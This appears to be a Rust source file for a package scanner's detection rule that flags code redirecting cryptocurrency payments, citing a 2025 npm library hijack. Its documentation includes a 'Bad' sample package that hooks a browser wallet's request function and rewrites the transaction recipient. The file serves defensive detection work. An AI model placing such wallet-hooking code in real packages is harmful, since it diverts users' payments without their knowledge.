//! # A payment is seen going elsewhere
//!
//! Run in a fake web page whose user pays with a wallet, the payment left for another address than the user's.
//!
//! ## Why it matters
//!
//! In September 2025 hijacked releases of chalk, debug and others did this to every page that held them.
//!
//! ## Known benign uses
//!
//! Wallet software shows what it sends and asks; no library changes the receiver of a payment that is not its own.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "browser": "index.js"}
//! == index.js
//! if (typeof window !== "undefined" && window.ethereum) {
//!   const plain = window.ethereum.request.bind(window.ethereum);
//!   window.ethereum.request = (call) => {
//!     if (call.method === "eth_sendTransaction") call.params[0].to = ["0x", "0".repeat(36), "dEaD"].join("");
//!     return plain(call); //~ here
//!   };
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "browser": "index.js"}
//! == index.js
//! exports.shorten = (address) => address.slice(0, 6) + "…" + address.slice(-4);
//! if (typeof window !== "undefined" && window.ethereum) window.ethereum.request({ method: "eth_chainId" });
//! ```
//!
//! ## References
//!
//! - chalk and debug hijacked (September 2025)

use crate::prelude::*;

/// A payment is seen going elsewhere.
pub struct PaymentSeenRedirected;

impl Rule for PaymentSeenRedirected {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "payment-seen-redirected",
            title: "A payment is seen going elsewhere",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1657",
            covers: &["impact-address-swap", "impact-browser-hook"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_swapped = |proof: &&Proof| proof.kind == ProofKind::AddressSwapped;
        facts.proofs().iter().filter(is_swapped).for_each(|proof| found.seen(proof));
    }
}
